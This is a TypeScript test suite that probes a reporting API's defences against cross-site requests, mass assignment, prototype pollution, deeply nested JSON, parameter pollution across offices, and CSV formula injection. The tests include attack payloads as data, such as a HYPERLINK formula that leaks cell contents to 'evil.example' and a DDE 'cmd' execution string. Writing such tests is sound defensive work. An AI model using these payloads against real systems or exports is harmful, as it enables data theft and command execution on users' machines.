import type { Actor } from '@tilik/server/inside/access/actor.ts';
import { places } from '@tilik/server/inside/access/places.ts';
import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { openProgramme } from './programme.ts';

const timeout = 60_000;
const { requests, tried, dump, as, administrator, crashes, app, db } = await openProgramme();
const before = dump();
const writing = requests.filter(({ method }) => method !== 'GET');
const nameOf = ({ method, path }: { readonly method: string; readonly path: string }) => `${method} ${path}`;
const jsonBodyOf = (request: (typeof requests)[number]): Record<string, unknown> | undefined => {
  const body = request.body?.();
  const content: unknown = typeof body === 'string' ? JSON.parse(body) : undefined;
  return content !== null && typeof content === 'object' && !Array.isArray(content)
    ? (content as Record<string, unknown>)
    : undefined;
};

/** As a request that came by a socket: it is looked at like everybody's. */
const socket = { incoming: { socket: { remoteAddress: '127.0.0.1' } } };

test('no route that changes something does so for a page of somebody else, or for a form', { timeout }, async () => {
  expect(writing.length).toBeGreaterThan(40);
  for (const request of writing) {
    const path = `http://localhost${request.path}`;
    for (const [headers, code] of [
      [{ Origin: 'https://evil.example', 'Sec-Fetch-Site': 'cross-site' }, 'other-page'],
      [{ Origin: 'http://localhost:4000', 'Sec-Fetch-Site': 'same-site' }, 'other-page'],
      [{ Origin: 'null', 'Sec-Fetch-Site': 'cross-site' }, 'other-page'],
      [{ 'Content-Type': 'text/plain' }, 'wrong-type'],
      [{ 'Content-Type': 'application/x-www-form-urlencoded' }, 'wrong-type'],
    ] as const) {
      const found = await tried(
        { ...request, path },
        request.body?.(),
        (response, text) => ({
          status: response.status,
          code: (JSON.parse(text) as { code: string }).code,
          isUnchanged: dump().join() === before.join(),
        }),
        headers,
        socket,
      );
      expect([nameOf(request), found]).toEqual([
        nameOf(request),
        { status: code === 'wrong-type' ? 415 : 403, code, isUnchanged: true },
      ]);
    }
  }
});

test('asking changes nothing, so no link or picture on another page does either', { timeout }, async () => {
  const asking = requests.filter(({ method }) => method === 'GET');
  // A judgement is kept so that it is not made twice: whoever asks, it is the same. And how often was asked is counted.
  const kept = () =>
    dump()
      .filter((table) => !/^(effects|sqlite_sequence|rate_limits) /.test(table))
      .join();
  const keptBefore = kept();
  expect(asking.length).toBeGreaterThan(40);
  for (const request of asking) {
    const unchanged = await tried(request, undefined, () => kept() === keptBefore);
    expect([nameOf(request), unchanged]).toEqual([nameOf(request), true]);
  }
});

test('nobody decides by what they send who did it, when, as whom, or whether it is a sample', { timeout }, async () => {
  const planted = 'planted-by-nobody';
  const fields = [
    ...['id', 'actor', 'actorId', 'actor_id', 'createdBy', 'created_by', 'createdAt', 'addedAt', 'by', 'signedInAt'],
    ...['isSample', 'is_sample', 'sample', 'importId', 'import_id', 'role', 'officeId', 'office_id', 'admin', 'banned'],
    ...[
      'emailVerified',
      'twoFactorEnabled',
      'tokenHash',
      'token_hash',
      'contentHash',
      'closedBy',
      'approvedBy',
      'userId',
    ],
  ];
  let count = 0;
  for (const request of writing) {
    const content = jsonBodyOf(request);
    if (!content) continue;
    count += 1;
    const more = Object.fromEntries(fields.filter((field) => !(field in content)).map((field) => [field, planted]));
    const nested = content.fields && { fields: { ...(content.fields as object), ...more, id: undefined } };
    for (const body of [{ ...more, ...content }, ...(nested ? [{ ...content, ...nested }] : [])]) {
      const kept = await tried(request, JSON.stringify(body), (response) => ({
        isOurs: response.status < 500,
        // What was refused may be quoted in the answer, and is kept nowhere.
        where: dump()
          .filter((table) => table.includes(planted))
          .map((table) => table.split(' ')[0]),
      }));
      expect([nameOf(request), kept]).toEqual([nameOf(request), { isOurs: true, where: [] }]);
    }
  }
  expect(count).toBeGreaterThan(20);
  expect(crashes).toEqual([]);
});

test('names that every object has are names like others in what is sent', { timeout }, async () => {
  for (const request of writing) {
    const content = jsonBodyOf(request);
    if (!content) continue;
    for (const inserted of [
      '"__proto__":{"isAdmin":true,"role":"administrator","officeId":null}',
      '"constructor":{"prototype":{"isAdmin":true}}',
      '"toString":1,"hasOwnProperty":1,"valueOf":null',
    ]) {
      const body = JSON.stringify(content).replace('{', `{${inserted},`).replace(',}', '}');
      const status = await tried(request, body, (response) => response.status);
      expect([nameOf(request), inserted, status < 500]).toEqual([nameOf(request), inserted, true]);
    }
  }
  expect(({} as { isAdmin?: boolean }).isAdmin).toBe(undefined);
  expect(crashes).toEqual([]);
});

test('JSON of a hundred thousand levels, or of a million numbers, breaks nothing', { timeout }, async () => {
  const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  const deepObject = `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`;
  const wide = `[${'1,'.repeat(1_000_000)}1]`;
  for (const request of writing) {
    if (typeof request.body?.() !== 'string') continue;
    const content = JSON.stringify(jsonBodyOf(request) ?? {});
    for (const [what, body] of [
      ['deep', deep],
      ['deep within', deepObject],
      ['deep in a line', deepObject.replace('{', '{"date":"2026-01-10",')],
      ['deep beside', `${content.slice(0, -1)}${content === '{}' ? '' : ','}"x":${deep}}`],
    ] as const) {
      const status = await tried(request, body, (response) => response.status);
      expect([nameOf(request), what, status < 500]).toEqual([nameOf(request), what, true]);
    }
  }
  const began = performance.now();
  expect(await tried({ method: 'POST', path: '/api/v1/readings' }, wide, ({ status }) => status)).toBeLessThan(500);
  expect(performance.now() - began).toBeLessThan(10_000);
  expect(crashes).toEqual([]);
});

test('an office that is named twice, or by another spelling, shows nobody the figures of another', {
  timeout,
}, async () => {
  let count = 0;
  for (const [name, { office, roles }] of Object.entries(places)) {
    if (office !== 'query' || !name.startsWith('GET ')) continue;
    const role = (['petugas', 'kepala'] as const).find((one) => roles.includes(one));
    const request = requests.find(
      ({ method, route, path }) => `${method} ${route}` === name && path.includes('office='),
    );
    if (!role || !request) continue;
    const bound: Actor = { id: 'person:bound', name: 'Bound', role, officeId: 'bandung' };
    as(bound);
    const own = await tried(request, undefined, (response, text) => ({ status: response.status, text }));
    expect([request.path, own.status]).toEqual([request.path, 200]);
    for (const more of [
      '&office=jakarta-pusat',
      '&office[]=jakarta-pusat',
      '&OFFICE=jakarta-pusat',
      '&officeId=jakarta-pusat',
      ';office=jakarta-pusat',
      '%00&office%20=jakarta-pusat',
      '&%6fffice=jakarta-pusat',
    ]) {
      count += 1;
      const found = await tried({ ...request, path: request.path + more }, undefined, (response, text) => ({
        status: response.status,
        text,
      }));
      const isSame = found.text === own.text;
      const why = [request.path + more, found.status];
      expect([...why, isSame || (found.status >= 400 && found.status < 500)]).toEqual([...why, true]);
    }
  }
  as(administrator);
  expect(count).toBeGreaterThan(60);
});

test('whoever is bound to an office brings in figures of no other, whichever field or cell names it', {
  timeout,
}, async () => {
  as({ id: 'person:bound', name: 'Bound', role: 'petugas', officeId: 'bandung' });
  const other = 'jakarta-pusat';
  const csv = `date,office,channel,metric,value\n2026-01-10,${other},website,visits,7\n`;
  const form = () => {
    const body = new FormData();
    body.set('file', new File([csv], 'a.csv'));
    body.set('office', 'bandung');
    return body;
  };
  const row = { date: '2026-01-10', office: other, channel: 'website', metric: 'visits', value: '7' };
  const rows = JSON.stringify([row]);
  for (const [path, body] of [
    ['/api/v1/imports', form()],
    ['/api/v1/readings', rows],
    ['/api/v1/readings?office=bandung', rows],
    ['/api/v1/readings?office=jakarta-pusat', rows],
  ] as const) {
    const found = await tried({ method: 'POST', path }, body, ({ status }) => ({
      isRefused: status >= 400 && status < 500,
      readings: db.$client
        .prepare('SELECT COUNT(*) FROM readings WHERE period_on >= ? AND office_id = ?')
        .pluck()
        .get('2026-01-10', other),
    }));
    expect([path, found]).toEqual([path, { isRefused: true, readings: 0 }]);
  }
  as(administrator);
});

test('no cell of any table that is given out begins as a formula', { timeout }, async () => {
  const formula = '=HYPERLINK("http://evil.example/"&A1,"x")';
  const variants = [formula, "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\uFF1D1+1', "'=1+1", '\t=1+1'];
  const { $client: client } = db;
  client.exec('BEGIN');
  try {
    // Whatever text there is that a person chose is a formula now; what it is called by stays.
    const columns: readonly (readonly [string, string])[] = [
      ['campaigns', 'name'],
      ['campaigns', 'objective'],
      ['events', 'name'],
      ['activities', 'caption'],
      ['activities', 'title'],
      ['share_links', 'name'],
      ['people', 'name'],
      ['imports', 'file_name'],
    ];
    const known = (table: string) =>
      client.prepare('SELECT name FROM pragma_table_info(?)').pluck().all(table) as string[];
    let set = 0;
    for (const [table, column] of columns) {
      if (!known(table).includes(column)) continue;
      client.prepare(`UPDATE "${table}" SET "${column}" = ? || rowid`).run(formula);
      set += 1;
    }
    expect(set).toBeGreaterThan(4);
    const fields = { campaign: 'asing', approach: 'sosialisasi', planned_from: '2026-03-01', office: 'bandung' };
    for (const [index, name] of variants.entries()) {
      const body = JSON.stringify({ fields: { ...fields, campaign: `asing-${index}`, name } });
      const headers = { 'Content-Type': 'application/json' };
      await app.request('/api/v1/records/campaigns', { method: 'PUT', headers, body });
    }
    let tables = 0;
    let guardedCells = 0;
    for (const request of requests.filter(({ method }) => method === 'GET')) {
      const response = await app.request(request.path, { headers: { Accept: 'text/csv' } });
      const text = await response.text();
      if (!response.ok || !response.headers.get('Content-Type')?.startsWith('text/csv')) continue;
      tables += 1;
      expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="[\w.-]+"$/);
      for (const cell of (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat()) {
        if (cell.startsWith("'")) guardedCells += 1;
        const isNumber = /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
        expect([request.path, cell, !isNumber && /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)]).toEqual([
          request.path,
          cell,
          false,
        ]);
      }
    }
    expect(tables).toBeGreaterThan(15);
    expect(guardedCells).toBeGreaterThan(5);
  } finally {
    client.exec('ROLLBACK');
  }
});
